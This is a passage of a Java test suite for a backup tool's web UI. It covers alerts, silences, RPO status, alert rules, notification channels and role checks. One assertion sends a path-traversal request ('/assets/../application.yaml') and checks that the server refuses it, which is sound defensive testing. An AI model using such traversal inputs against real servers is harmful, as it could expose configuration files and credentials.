            // revalidated on every use, so an upgrade's assets show at once
            assertThat(asset, page.header("Cache-Control"), is("no-cache"));
            assertThat(asset, page.header("X-Content-Type-Options"), is("nosniff"));
            assertThat(asset, page.body().isEmpty(), is(false));
        });
        assertThat(get("/favicon.ico", null).status(), is(301));
        assertThat(get("/assets/../application.yaml", null).status(), not(is(200)));
        assertThat(get("/assets/nope.js", null).status(), is(404));
    }

    private static final String FIRING_QUERY = "/api/alerts?state=firing&limit=500";

    @Test
    void alertsPageListsTheApisOrderWithHostNamesAndViewersGetNoButtons() {
        GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS)
                .on("GET", "/api/alerts/silences", 200, Fixtures.SILENCES);

        Page viewer = get("/alerts", "viewer");

        assertThat(viewer.status(), is(200));
        List<String> order = new java.util.ArrayList<>();
        Matcher row = Pattern.compile("class=\"alert-row [^\"]*\" data-alert-id=\"([^\"]+)\" data-state=\"([a-z]+)\"")
                .matcher(viewer.body());
        while (row.find()) {
            order.add(row.group(2));
        }
        assertThat(order, is(List.of("firing", "firing", "acknowledged", "resolved")));
        String web = rowOf(viewer.body(), "alert-row", Fixtures.ALERT_WEB);
        assertThat(web, containsString("<span class=\"status-label\">Critical</span>"));
        assertThat(web, containsString("Backup failed"));
        assertThat(web, containsString("backup of web-1 failed: repository is locked"));
        assertThat(web, containsString("<a href=\"/hosts/" + WEB + "\">web-1</a>"));
        assertThat(web, containsString("<time datetime=\"2026-11-26T09:00:00Z\" title=\"2026-11-26 09:00:00 UTC\">"));
        assertThat(web, containsString("<span class=\"status-label\">Firing</span>"));
        assertThat(web, not(containsString("silenced-marker")));
        assertThat(rowOf(viewer.body(), "alert-row", Fixtures.ALERT_DB), containsString("🔕</span> silenced"));
        assertThat(rowOf(viewer.body(), "alert-row", Fixtures.ALERT_ACKED), containsString("acknowledged by bob"));
        assertThat(rowOf(viewer.body(), "alert-row", Fixtures.ALERT_RESOLVED), containsString("resolved by carol"));
        assertThat(GATEWAY.seen("GET", "/api/alerts").stream().map(StubGateway.Seen::params).toList(),
                   hasItem(Map.of("limit", "200")));
        // viewers read; they get no buttons and no silence form
        assertThat(viewer.body(), not(containsString("id=\"alert-ack-")));
        assertThat(viewer.body(), not(containsString("id=\"alert-resolve-")));
        assertThat(viewer.body(), not(containsString("id=\"silence-form\"")));
        assertThat(viewer.body(), not(containsString("id=\"silence-end-")));
        assertThat(text(viewer.body(), "silence-list"), containsString("Host offline on db-1"));
        assertThat(viewer.body(), containsString("rack move"));
        assertThat(viewer.body(), not(containsString("alerts-channels-link")));

        Page operator = get("/alerts", "operator");
        // acknowledge: firing only; resolve: every open one
        assertThat(operator.body(), containsString("id=\"alert-ack-" + Fixtures.ALERT_WEB + "\""));
        assertThat(operator.body(), containsString("id=\"alert-ack-" + Fixtures.ALERT_DB + "\""));
        assertThat(operator.body(), not(containsString("id=\"alert-ack-" + Fixtures.ALERT_ACKED + "\"")));
        assertThat(operator.body(), containsString("id=\"alert-resolve-" + Fixtures.ALERT_ACKED + "\""));
        assertThat(operator.body(), not(containsString("id=\"alert-resolve-" + Fixtures.ALERT_RESOLVED + "\"")));
        assertThat(operator.body(), containsString("id=\"silence-form\""));
        assertThat(operator.body(), containsString("id=\"silence-end-sil-1\""));
        assertThat(operator.body(), containsString("<option value=\"14400\">4 hours</option>"));
        assertThat(operator.body(), containsString("<option value=\"604800\">1 week</option>"));
        assertThat(get("/alerts", "admin").body(), containsString("href=\"/alerts/channels\""));

        // "Silence…" on a row fills the form in with its rule and host
        Page prefilled = get("/alerts?silence_rule=backup_failed&silence_host=" + WEB, "operator");
        assertThat(prefilled.body(), containsString("<option value=\"backup_failed\" selected>"));
        String hostSelect = prefilled.body().substring(prefilled.body().indexOf("id=\"silence-host\""));
        assertThat(hostSelect, containsString("<option value=\"" + WEB + "\" selected>web-1</option>"));
    }

    @Test
    void alertsAreFilteredByStateAndHost() {
        GATEWAY.on("GET", "/api/alerts", 200, "{\"items\":[],\"firing\":0}");

        Page page = get("/alerts?state=acknowledged&host_id=" + WEB, "viewer");

        assertThat(page.status(), is(200));
        assertThat(GATEWAY.seen("GET", "/api/alerts").stream().map(StubGateway.Seen::params).toList(),
                   hasItem(Map.of("state", "acknowledged", "host_id", WEB, "limit", "200")));
        assertThat(page.body(), containsString("<option value=\"acknowledged\" selected>Acknowledged</option>"));
        assertThat(text(page.body(), "no-alerts"), is("No alert matches this filter."));
        // an unknown state is not passed on
        get("/alerts?state=bogus", "viewer");
        assertThat(GATEWAY.seen("GET", "/api/alerts").stream().map(StubGateway.Seen::params).toList(),
                   hasItem(Map.of("limit", "200")));
        assertThat(GATEWAY.seen("GET", "/api/alerts").stream().filter(c -> c.query().contains("bogus")).toList(), empty());
    }

    @Test
    void operatorsAcknowledgeResolveAndSilenceWithExactBodies() {
        GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS).on("POST", "/api/alerts/" + Fixtures.ALERT_WEB + "/ack", 200, "{}")
                .on("POST", "/api/alerts/" + Fixtures.ALERT_ACKED + "/resolve", 200, "{}")
                .on("POST", "/api/alerts/silences", 201, "{\"id\":\"sil-9\"}")
                .on("DELETE", "/api/alerts/silences/sil-1", 204, "");

        Page ack = post("/alerts", "operator", form("action", "ack", "alert_id", Fixtures.ALERT_WEB));
        assertThat(ack.status(), is(303));
        assertThat(ack.header("Location"), is("/alerts?saved=ack"));
        assertThat(GATEWAY.seen("POST", "/api/alerts/" + Fixtures.ALERT_WEB + "/ack").getFirst().body(), is("{}"));
        assertThat(GATEWAY.seen("POST", "/api/alerts/" + Fixtures.ALERT_WEB + "/ack").getFirst().csrf(), is(CSRF));

        // the list's filter survives the round trip
        Page resolve = post("/alerts", "operator", form("action", "resolve", "alert_id", Fixtures.ALERT_ACKED,
                                                        "filter_state", "acknowledged", "filter_host", WEB));
        assertThat(resolve.status(), is(303));
        assertThat(resolve.header("Location"), is("/alerts?saved=resolve&state=acknowledged&host_id=" + WEB));
        assertThat(GATEWAY.seen("POST", "/api/alerts/" + Fixtures.ALERT_ACKED + "/resolve").getFirst().body(), is("{}"));

        Page silence = post("/alerts", "operator", form("action", "silence", "rule", "backup_failed", "host_id", WEB,
                                                        "duration_s", "14400", "reason", " disk swap "));
        assertThat(silence.status(), is(303));
        assertThat(silence.header("Location"), is("/alerts?saved=silence"));
        assertThat(GATEWAY.seen("POST", "/api/alerts/silences").getLast().body(),
                   is("{\"rule\":\"backup_failed\",\"host_id\":\"" + WEB + "\",\"duration_s\":14400,\"reason\":\"disk swap\"}"));
        post("/alerts", "operator", form("action", "silence", "rule", "", "host_id", DB, "duration_s", "604800",
                                         "reason", ""));
        assertThat(GATEWAY.seen("POST", "/api/alerts/silences").getLast().body(),
                   is("{\"host_id\":\"" + DB + "\",\"duration_s\":604800}"));
        post("/alerts", "operator", form("action", "silence", "rule", "host_offline", "host_id", "", "duration_s", "3600"));
        assertThat(GATEWAY.seen("POST", "/api/alerts/silences").getLast().body(),
                   is("{\"rule\":\"host_offline\",\"duration_s\":3600}"));
        post("/alerts", "operator", form("action", "silence", "rule", "host_offline", "duration_s", "86400"));
        assertThat(GATEWAY.seen("POST", "/api/alerts/silences").getLast().body(),
                   is("{\"rule\":\"host_offline\",\"duration_s\":86400}"));

        Page end = post("/alerts", "operator", form("action", "unsilence", "silence_id", "sil-1"));
        assertThat(end.header("Location"), is("/alerts?saved=unsilence"));
        assertThat(GATEWAY.seen("DELETE", "/api/alerts/silences/sil-1"), hasSize(1));
        assertThat(get("/alerts?saved=silence", "operator").body(), containsString("id=\"saved-message\""));

        // neither a rule nor a host, or a length not offered: refused before the API, the input kept
        Page everything = post("/alerts", "operator", form("action", "silence", "rule", "", "host_id", "",
                                                           "duration_s", "3600", "reason", "too broad"));
        assertThat(everything.status(), is(422));
        assertThat(text(everything.body(), "silence"), containsString("Choose a rule, a host or both"));
        assertThat(everything.body(), containsString("value=\"too broad\""));
        Page forever = post("/alerts", "operator", form("action", "silence", "rule", "host_offline",
                                                        "duration_s", "99999999"));
        assertThat(forever.status(), is(422));
        assertThat(GATEWAY.seen("POST", "/api/alerts/silences"), hasSize(4));
    }

    @Test
    void aRefusedAlertActionShowsTheApisProblemDetail() {
        GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS)
                .on("POST", "/api/alerts/" + Fixtures.ALERT_ACKED + "/ack", 409, "{\"title\":\"Conflict\",\"status\":409,"
                        + "\"detail\":\"alert " + Fixtures.ALERT_ACKED + " is acknowledged; only a firing alert can be acknowledged\"}")
                .on("POST", "/api/alerts/silences", 422, "{\"title\":\"Unprocessable\",\"status\":422,"
                        + "\"detail\":\"host_id is not a host id\"}");

        Page ack = post("/alerts", "operator", form("action", "ack", "alert_id", Fixtures.ALERT_ACKED));
        assertThat(ack.status(), is(409));
        assertThat(text(ack.body(), "alerts-problem"), containsString("only a firing alert can be acknowledged"));
        assertThat(ack.body(), containsString("id=\"alert-table\""));

        Page silence = post("/alerts", "operator", form("action", "silence", "host_id", "nope!", "duration_s", "3600",
                                                        "reason", "kept reason"));
        assertThat(silence.status(), is(422));
        assertThat(text(silence.body(), "silence"), containsString("host_id is not a host id"));
        assertThat(silence.body(), not(containsString("id=\"alerts-problem\"")));
        assertThat(silence.body(), containsString("value=\"kept reason\""));
    }

    @Test
    void viewersCannotAcknowledgeResolveOrSilence() {
        GATEWAY.on("GET", "/api/alerts", 200, Fixtures.ALERTS);
        for (String action : List.of("ack", "resolve", "silence", "unsilence")) {
            Page res = post("/alerts", "viewer", form("action", action, "alert_id", Fixtures.ALERT_WEB,
                                                      "rule", "backup_failed", "duration_s", "3600", "silence_id", "sil-1"));
            assertThat(action, res.status(), is(403));
            assertThat(action, res.body(), containsString("needs the operator role"));
        }
        assertThat(GATEWAY.seen().stream().filter(s -> !s.method().equals("GET")).toList(), empty());
    }

    @Test
    void navBadgeCountsFiringAlertsWithOneCallAndOnlyWhenThereAreAny() {
        GATEWAY.on("GET", FIRING_QUERY, 200, Fixtures.firing(3));

        Page repos = get("/repos", "viewer");
        assertThat(repos.status(), is(200));
        assertThat(GATEWAY.seen("GET", "/api/alerts"), hasSize(1));
        assertThat(GATEWAY.seen("GET", "/api/alerts").getFirst().params(), is(Map.of("state", "firing", "limit", "500")));
        assertThat(repos.body(), containsString("id=\"nav-alerts-badge\" data-firing=\"3\" title=\"3 firing alerts\""));
        assertThat(repos.body(), containsString("<span aria-hidden=\"true\">3</span><span class=\"visually-hidden\">3 firing alerts</span>"));
        assertThat(repos.body(), containsString("id=\"nav-rpo\""));

        GATEWAY.on("GET", FIRING_QUERY, 200, Fixtures.firing(1));
        assertThat(get("/repos", "viewer").body(), containsString("title=\"1 firing alert\""));

        GATEWAY.on("GET", FIRING_QUERY, 200, Fixtures.firing(0));
        Page quiet = get("/repos", "viewer");
        assertThat(quiet.body(), containsString("id=\"nav-alerts\""));
        assertThat(quiet.body(), not(containsString("nav-alerts-badge")));

        // fragments have no nav: no call
        GATEWAY.seen().clear();
        get("/hosts/" + WEB + "/jobs", "viewer", "HX-Request", "true");
        assertThat(GATEWAY.seen("GET", "/api/alerts"), empty());
        // nor have pages without a user
        get("/login", null);
        assertThat(GATEWAY.seen("GET", "/api/alerts"), empty());
    }

    @Test
    void pagesStillRenderWhenTheAlertsCallFails() {
        for (int status : List.of(500, 503, 403, 404)) {
            GATEWAY.on("GET", "/api/alerts", status, "{\"title\":\"Broken\",\"status\":" + status + ",\"detail\":\"jobs down\"}");
            for (String path : List.of("/", "/repos", "/hosts/" + WEB, "/hosts/" + WEB + "/jobs")) {
                Page page = get(path, "operator");
                assertThat(path + " " + status, page.status(), is(200));
                assertThat(path, page.body(), not(containsString("nav-alerts-badge")));
                assertThat(path, page.body(), not(containsString("id=\"host-alerts\"")));
                assertThat(path, page.body(), not(containsString("class=\"host-alerts\"")));
                assertThat(path, page.body(), not(containsString("jobs down")));
            }
            assertThat(count(get("/", "viewer").body(), "class=\"host-card "), is(3));
        }
        // the alerts page itself needs its list: there the failure is the page's problem
        assertThat(get("/alerts", "viewer").status(), is(404));
    }

    @Test
    void dashboardCardsShowFiringAlertsFromTheBadgesOwnCall() {
        GATEWAY.on("GET", FIRING_QUERY, 200, Fixtures.ALERTS);

        Page page = get("/", "viewer");

        assertThat(page.status(), is(200));
        assertThat(GATEWAY.seen("GET", "/api/alerts"), hasSize(1));
        assertThat(text(page.body(), "nav-alerts-badge"), is("2 2 firing alerts"));
        assertThat(text(page.body(), "count-alerts"), is("◉ Firing alerts 2"));
        String webCard = page.body().substring(page.body().indexOf("data-host-id=\"" + WEB + "\""),
                                               page.body().indexOf("data-host-id=\"" + DB + "\""));
        assertThat(webCard, containsString("<a href=\"/alerts?host_id=" + WEB + "&amp;state=firing\">"
                + "<span class=\"status-badge status-critical\" data-status=\"critical\">"));
        assertThat(webCard, containsString("<span class=\"status-label\">1 firing alert</span>"));
        String dbCard = page.body().substring(page.body().indexOf("data-host-id=\"" + DB + "\""),
                                              page.body().indexOf("data-host-id=\"" + OLD + "\""));
        assertThat(dbCard, containsString("status-warning"));
        String oldCard = page.body().substring(page.body().indexOf("data-host-id=\"" + OLD + "\""));
        assertThat(oldCard, not(containsString("host-alerts")));
        // the polled fragment keeps the cards' alerts current
        Page fragment = get("/", "viewer", "HX-Request", "true");
        assertThat(fragment.body(), containsString("class=\"host-alerts\""));
        assertThat(page.body(), containsString("href=\"/rpo\" id=\"rpo-link\""));
    }

    @Test
    void hostPageShowsTheHostsFiringAlertsFromItsOwnCall() {
        String hostQuery = "/api/alerts?host_id=" + WEB + "&state=firing";
        GATEWAY.on("GET", hostQuery, 200, """
                {"items":[{"id":"%s","rule":"backup_failed","severity":"critical","state":"firing","host_id":"%s",
                  "summary":"backup of web-1 failed","fired_at":"2026-11-26T09:00:00Z","silenced":true}],"firing":1}"""
                .formatted(Fixtures.ALERT_WEB, WEB));

        Page page = get("/hosts/" + WEB, "viewer");

        assertThat(page.status(), is(200));
        assertThat(GATEWAY.seen("GET", "/api/alerts").stream().map(StubGateway.Seen::params).toList(),
                   hasItem(Map.of("host_id", WEB, "state", "firing")));
        assertThat(text(page.body(), "host-alerts"), is("‼ 1 firing alert · all alerts of this host"));
        assertThat(text(page.body(), "host-alert-list"), containsString("Backup failed backup of web-1 failed"));
        assertThat(text(page.body(), "host-alert-list"), containsString("silenced"));
        assertThat(page.body(), containsString("href=\"/alerts?host_id=" + WEB + "\""));

        GATEWAY.on("GET", hostQuery, 200, "{\"items\":[],\"firing\":0}");
        Page quiet = get("/hosts/" + WEB + "/jobs", "viewer");
        assertThat(text(quiet.body(), "host-alerts"), is("✓ No firing alerts"));
        assertThat(quiet.body(), not(containsString("host-alert-list")));

        // a tab swap has no header: no call for it
        GATEWAY.seen().clear();
        get("/hosts/" + WEB + "/jobs", "viewer", "HX-Request", "true");
        assertThat(GATEWAY.seen("GET", "/api/alerts"), empty());
    }

    @Test
    void rpoPageListsEveryHostWorstFirstWithItsStatusInWords() {
        GATEWAY.on("GET", "/api/alerts/rpo", 200, Fixtures.RPO);

        Page page = get("/rpo", "viewer");

        assertThat(page.status(), is(200));
        List<String> order = new java.util.ArrayList<>();
        Matcher row = Pattern.compile("class=\"rpo-row rpo-[a-z_]+\" data-host-id=\"([^\"]+)\" data-status=\"([a-z_]+)\"")
                .matcher(page.body());
        while (row.find()) {
            order.add(row.group(2));
        }
        assertThat(order, is(List.of("red", "no_schedule", "amber", "green")));
        String old = rowOf(page.body(), "rpo-row rpo-red", OLD);
        assertThat(old, containsString("<a href=\"/hosts/" + OLD + "\">old-box</a>"));
        assertThat(old, containsString("<span class=\"status-label\">Target missed</span>"));
        assertThat(old, containsString(">never</span>"));
        assertThat(old, containsString(">1 d</td>"));
        String gone = rowOf(page.body(), "rpo-row rpo-no_schedule", "99999999-0000-4000-8000-000000000009");
        assertThat(gone, containsString("<span class=\"status-label\">No backup schedule</span>"));
        assertThat(gone, containsString("title=\"no longer enrolled\">99999999</span>"));
        assertThat(gone, containsString("title=\"2026-11-20 09:00:00 UTC\""));
        String db = rowOf(page.body(), "rpo-row rpo-amber", DB);
        assertThat(db, containsString("<span class=\"status-label\">Close to target</span>"));
        assertThat(db, containsString("<time datetime=\"2026-11-26T08:00:00Z\" title=\"2026-11-26 08:00:00 UTC\">"));
        assertThat(db, containsString(">20 h</td>"));
        assertThat(db, containsString("83% of target"));
        assertThat(db, containsString("<meter class=\"rpo-meter\" min=\"0\" max=\"108000\" low=\"64800\" high=\"86400\" optimum=\"0\" value=\"72000\""));
        String web = rowOf(page.body(), "rpo-row rpo-green", WEB);
        assertThat(web, containsString("<span class=\"status-label\">Within target</span>"));
        assertThat(web, containsString(">3 h</td>"));
        assertThat(web, containsString(">2 d</td>"));
        assertThat(text(page.body(), "rpo-count-red"), is("✗ Target missed 1"));
        assertThat(text(page.body(), "rpo-count-green"), is("✓ Within target 1"));
        assertThat(page.body(), containsString("id=\"nav-rpo\" aria-current=\"page\""));

        Page fragment = get("/rpo", "viewer", "HX-Request", "true");
        assertThat(fragment.body(), startsWith("<section id=\"rpo\""));
        assertThat(fragment.body(), containsString("hx-trigger=\"every 30s\""));

        // the host list is only for names: without it the rows still show, by short id
        GATEWAY.on("GET", "/api/hosts", 503, "{\"title\":\"Service Unavailable\",\"status\":503}");
        Page noNames = get("/rpo", "viewer");
        assertThat(noNames.status(), is(200));
        assertThat(count(noNames.body(), "class=\"rpo-row "), is(4));

        GATEWAY.on("GET", "/api/alerts/rpo", 503, "{\"title\":\"Service Unavailable\",\"status\":503}");
        Page down = get("/rpo", "viewer", "HX-Request", "true");
        assertThat(down.status(), is(503));
        assertThat(down.body(), containsString("id=\"unavailable-banner\""));
        assertThat(down.body(), containsString("hx-trigger=\"every 30s\""));
    }

    @Test
    void channelsAreForAdminsOnly() {
        for (String role : List.of("viewer", "operator")) {
            Page page = get("/alerts/channels", role);
            assertThat(role, page.status(), is(403));
            assertThat(role, page.body(), containsString("need the admin role"));
            assertThat(role, page.body(), not(containsString("channel-form-")));
            Page post = post("/alerts/channels", role, form("action", "delete", "channel_id", Fixtures.CHANNEL));
            assertThat(role, post.status(), is(403));
        }
        assertThat(GATEWAY.seen().stream().filter(s -> s.path().startsWith("/api/alert-channels")
                || s.path().equals("/api/alerts/deliveries")).toList(), empty());
    }

    @Test
    void channelsPageListsChannelsAndTheDeliveryLogAndNeverShowsSecrets() {
        GATEWAY.on("GET", "/api/alert-channels", 200, Fixtures.CHANNELS)
                .on("GET", "/api/alerts/deliveries", 200, Fixtures.DELIVERIES);

        Page page = get("/alerts/channels", "admin");

        assertThat(page.status(), is(200));
        String hook = rowOf(page.body(), "channel-row", Fixtures.CHANNEL);
        assertThat(hook, containsString("ops hook"));
        assertThat(hook, containsString("https://hooks.example.org/rm"));
        assertThat(hook, containsString("(signed with a secret)"));
        assertThat(hook, containsString("Every rule"));
        assertThat(hook, containsString("<span class=\"status-label\">Warning</span>"));
        String mail = rowOf(page.body(), "channel-row", "c-mail");
        assertThat(mail, containsString("ops@example.org, oncall@example.org via smtp.example.org:587"));
        assertThat(mail, containsString("Backup failed, Recovery point missed"));
        assertThat(mail, containsString("No (paused)"));
        assertThat(mail, containsString("(with a login)"));
        assertThat(page.body(), not(containsString("***")));
        // every secret field is empty, whatever the API holds
        Matcher password = Pattern.compile("<input[^>]*type=\"password\"[^>]*>").matcher(page.body());
        int secrets = 0;
        while (password.find()) {
            secrets++;
            assertThat(password.group(), not(containsString("value=")));
        }
        assertThat(secrets, is(3));
        for (String id : List.of("channel-form-webhook", "channel-form-ntfy", "channel-form-email")) {
            assertThat(id, page.body(), containsString("id=\"" + id + "\""));
        }
        assertThat(count(page.body(), "class=\"delivery-row\""), is(3));
        assertThat(page.body(), containsString("HTTP 401 from hooks.example.org"));
        assertThat(rowOf(page.body(), "delivery-row", "7"), containsString("ops hook"));
        assertThat(rowOf(page.body(), "delivery-row", "6"), containsString("<span class=\"status-label\">Sent</span>"));
        assertThat(rowOf(page.body(), "delivery-row", "5"), containsString("next <time datetime=\"2099-01-01T00:00:00Z\""));
        assertThat(GATEWAY.seen("GET", "/api/alerts/deliveries").getFirst().query(), is("limit=50"));
    }

    @Test
    void adminCreatesAChannelOfEachKindWithExactBodies() {
        GATEWAY.on("GET", "/api/alert-channels", 200, "{\"items\":[]}")
                .on("GET", "/api/alerts/deliveries", 200, "{\"items\":[]}")
                .on("POST", "/api/alert-channels", 201, "{\"id\":\"c-new\"}");

        Page webhook = post("/alerts/channels", "admin", form("action", "create", "kind", "webhook", "name", "ops hook",
                "url", "https://hooks.example.org/rm", "secret", " s3cret ", "min_severity", "warning", "enabled", "on"));
        assertThat(webhook.status(), is(303));
        assertThat(webhook.header("Location"), is("/alerts/channels?saved=created"));
        assertThat(GATEWAY.seen("POST", "/api/alert-channels").getLast().body(), is(
                "{\"name\":\"ops hook\",\"kind\":\"webhook\",\"config\":{\"url\":\"https://hooks.example.org/rm\","
                        + "\"secret\":\" s3cret \"},\"min_severity\":\"warning\",\"enabled\":true}"));

        String ntfyForm = "_csrf=" + CSRF + "&action=create&kind=ntfy&name=phones&url=https%3A%2F%2Fntfy.sh&topic=rm-alerts"
                + "&token=&rules=backup_failed&rules=rpo_breached&min_severity=info";
        Page ntfy = ui.request(Method.POST, "/alerts/channels", "admin", ntfyForm);
        assertThat(ntfy.status(), is(303));
        assertThat(GATEWAY.seen("POST", "/api/alert-channels").getLast().body(), is(
                "{\"name\":\"phones\",\"kind\":\"ntfy\",\"config\":{\"url\":\"https://ntfy.sh\",\"topic\":\"rm-alerts\"},"
                        + "\"rules\":[\"backup_failed\",\"rpo_breached\"],\"min_severity\":\"info\",\"enabled\":false}"));

        Page email = post("/alerts/channels", "admin", form("action", "create", "kind", "email", "name", "on-call mail",
                "smtp_host", "smtp.example.org", "smtp_port", "465", "tls", "tls", "username", "rm",
                "password", "pw pw", "from", "rm@example.org", "to", "ops@example.org, oncall@example.org",
                "min_severity", "critical", "enabled", "on"));
        assertThat(email.status(), is(303));
        assertThat(GATEWAY.seen("POST", "/api/alert-channels").getLast().body(), is(
                "{\"name\":\"on-call mail\",\"kind\":\"email\",\"config\":{\"smtp_host\":\"smtp.example.org\","
                        + "\"smtp_port\":465,\"tls\":\"tls\",\"username\":\"rm\",\"password\":\"pw pw\","
                        + "\"from\":\"rm@example.org\",\"to\":[\"ops@example.org\",\"oncall@example.org\"]},"
                        + "\"min_severity\":\"critical\",\"enabled\":true}"));

        // checked here first: the form comes back open, its input kept, its secret not
        Page bad = post("/alerts/channels", "admin", form("action", "create", "kind", "email", "name", "mail",
                "smtp_host", "smtp.example.org", "smtp_port", "99999", "tls", "starttls", "password", "hunter2-secret",
                "from", "rm@example.org", "to", "ops@example.org"));
        assertThat(bad.status(), is(422));
        assertThat(text(bad.body(), "add-email"), containsString("SMTP port must be from 1 to 65535"));
        assertThat(bad.body(), containsString("id=\"add-email\" open"));
        assertThat(bad.body(), not(containsString("id=\"add-webhook\" open")));
        assertThat(bad.body(), containsString("value=\"99999\""));
        assertThat(bad.body(), not(containsString("hunter2-secret")));
        assertThat(GATEWAY.seen("POST", "/api/alert-channels"), hasSize(3));

        // the API's refusal: its detail next to that form
        GATEWAY.on("POST", "/api/alert-channels", 422, "{\"title\":\"Unprocessable\",\"status\":422,"
                + "\"detail\":\"topic must be 1 to 64 letters, digits, '_' or '-'\"}");
        Page refused = post("/alerts/channels", "admin", form("action", "create", "kind", "ntfy", "name", "phones",
                "url", "https://ntfy.sh", "topic", "a b", "token", "tok-secret-1"));
        assertThat(refused.status(), is(422));
        assertThat(text(refused.body(), "add-ntfy"), containsString("topic must be 1 to 64 letters"));
        assertThat(refused.body(), containsString("value=\"a b\""));
        assertThat(refused.body(), not(containsString("tok-secret-1")));
        assertThat(refused.body(), not(containsString("id=\"channels-problem\"")));
    }

    @Test
    void sendTestShowsDeliveredOrTheErrorAndDeletePausesWork() {
        GATEWAY.on("GET", "/api/alert-channels", 200, Fixtures.CHANNELS)
                .on("GET", "/api/alerts/deliveries", 200, "{\"items\":[]}")
                .on("POST", "/api/alert-channels/" + Fixtures.CHANNEL + "/test", 200, "{\"delivered\":true}")
                .on("POST", "/api/alert-channels/c-mail/test", 200,
                    "{\"delivered\":false,\"error\":\"535 authentication failed\"}")
                .on("PATCH", "/api/alert-channels/c-mail", 200, "{}")
                .on("DELETE", "/api/alert-channels/" + Fixtures.CHANNEL, 204, "");

        Page ok = post("/alerts/channels", "admin", form("action", "test", "channel_id", Fixtures.CHANNEL,
                                                         "channel_name", "ops hook"));
        assertThat(ok.status(), is(200));
        assertThat(GATEWAY.seen("POST", "/api/alert-channels/" + Fixtures.CHANNEL + "/test").getFirst().body(), is("{}"));
        assertThat(text(ok.body(), "test-result"), is("✓ Test notification delivered to “ops hook”."));

        Page failed = post("/alerts/channels", "admin", form("action", "test", "channel_id", "c-mail",
                                                             "channel_name", "on-call mail"));
        assertThat(failed.body(), containsString("data-delivered=\"false\""));
        assertThat(text(failed.body(), "test-result"), is("Test to “on-call mail” failed. 535 authentication failed"));

        Page enable = post("/alerts/channels", "admin", form("action", "enable", "channel_id", "c-mail"));
        assertThat(enable.header("Location"), is("/alerts/channels?saved=enabled"));
        assertThat(GATEWAY.seen("PATCH", "/api/alert-channels/c-mail").getFirst().body(), is("{\"enabled\":true}"));

        Page delete = post("/alerts/channels", "admin", form("action", "delete", "channel_id", Fixtures.CHANNEL));
        assertThat(delete.status(), is(303));
        assertThat(delete.header("Location"), is("/alerts/channels?saved=deleted"));
        assertThat(GATEWAY.seen("DELETE", "/api/alert-channels/" + Fixtures.CHANNEL), hasSize(1));

        GATEWAY.on("DELETE", "/api/alert-channels/gone", 404, "{\"title\":\"Not Found\",\"status\":404,"
                + "\"detail\":\"no alert channel gone\"}");
        Page gone = post("/alerts/channels", "admin", form("action", "delete", "channel_id", "gone"));
        assertThat(gone.status(), is(404));
        assertThat(text(gone.body(), "channels-problem"), containsString("no alert channel gone"));
    }

    /** The {@code data-…-id} of every row with this class, in page order. */
    private static List<String> rowIds(String html, String cls) {
        List<String> ids = new java.util.ArrayList<>();
        Matcher m = Pattern.compile("<tr class=\"" + Pattern.quote(cls) + "\" data-[a-z-]+-id=\"([^\"]+)\"").matcher(html);
        while (m.find()) {
            ids.add(m.group(1));
        }
        return ids;
    }

    /** The rule form's fields as a row shows them (the was_… values are what the API said). */
    private static Map<String, String> ruleForm(String rule, String... kv) {
        Map<String, String> fields = form("action", "rule", "rule", rule);
        for (int i = 0; i + 1 < kv.length; i += 2) {
            fields.put(kv[i], kv[i + 1]);
        }
        return fields;
    }

    @Test
    void alertRulesReadInWordsAndOperatorsAndViewersGetNoForms() {
        GATEWAY.on("GET", "/api/alerts", 200, "{\"items\":[],\"firing\":0}")
                .on("GET", "/api/alerts/rules", 200, Fixtures.RULES);
        assertThat(get("/alerts", "viewer").body(), containsString("href=\"/alerts/rules\" id=\"alerts-rules-link\""));

        for (String role : List.of("viewer", "operator")) {
            Page page = get("/alerts/rules", role);
            String body = page.body();
            assertThat(role, page.status(), is(200));
            // the order people think in, not the API's alphabetical one
            assertThat(rowIds(body, "rule-row"), is(List.of("backup_failed", "check_failed", "maintenance_failed",
                                                            "host_offline", "rpo_breached", "agent_outdated",
                                                            "repo_locked")));
            assertThat(text(body, "rule-host_offline"), is("Host offline host_offline A host is offline for longer than "
                    + "the grace; resolves when it is back. Yes ⚠ Warning 15 minutes grace before alerting Every 4 hours"));
            assertThat(text(body, "rule-maintenance_failed"), containsString("No (off)"));
            assertThat(text(body, "rule-check_failed"), containsString(" — Never"));
            assertThat(text(body, "rule-rpo_breached"),
                       containsString("twice the backup schedule&#39;s interval (default) RPO target"));
            assertThat(text(body, "rule-repo_locked"), containsString("ℹ Info 2 hours minimum lock age Every 1 hour 30 minutes"));
            assertThat(text(body, "rule-agent_outdated"), containsString("older than 0.14. Yes ⚠ Warning — Every 1 day"));
            assertThat(body, not(containsString("rule-form-")));
            assertThat(body, not(containsString("<select")));
            assertThat(body, not(containsString("override-form")));
            assertThat(body, not(containsString("override-delete-")));
            // overrides: by rule, then subject; host names from /api/hosts, schedule ids as they are
            assertThat(rowIds(body, "override-row"), is(List.of("backup_failed host:" + OLD, "host_offline host:" + WEB,
                    "host_offline host:99999999-0000-4000-8000-000000000009", "rpo_breached schedule:" + SCHEDULE)));
            String web = rowOf(body, "override-row", "host_offline host:" + WEB);
            assertThat(web, containsString("Host <a href=\"/hosts/" + WEB + "\">web-1</a>"));
            assertThat(web, containsString("<td class=\"override-threshold\">1 hour</td>"));
            assertThat(web, containsString("<td class=\"override-enabled\"><span class=\"muted\">as the rule</span></td>"));
            String schedule = rowOf(body, "override-row", "rpo_breached schedule:" + SCHEDULE);
            assertThat(schedule, containsString("Schedule <code>" + SCHEDULE + "</code>"));
            assertThat(schedule, containsString(">2 days</td>"));
            String old = rowOf(body, "override-row", "backup_failed host:" + OLD);
            assertThat(old, containsString(">old-box</a>"));
            assertThat(old, containsString("<td class=\"override-enabled\">Off</td>"));
            String gone = rowOf(body, "override-row", "host_offline host:99999999-0000-4000-8000-000000000009");
            assertThat(gone, containsString("title=\"no longer enrolled\">99999999</span>"));
            assertThat(gone, containsString(">1 minute 30 seconds</td>"));
        }

        // admins edit in place: each time in the largest unit it fills exactly, the was_… values as the API said
        Page admin = get("/alerts/rules", "admin");
        assertThat(admin.status(), is(200));
        String offline = rowOf(admin.body(), "rule-row", "host_offline");
        assertThat(offline, containsString("id=\"rule-enabled-host_offline\" name=\"enabled\" value=\"on\" "
                + "form=\"rule-form-host_offline\" checked"));
        assertThat(offline, containsString("<option value=\"warning\" selected>Warning</option>"));
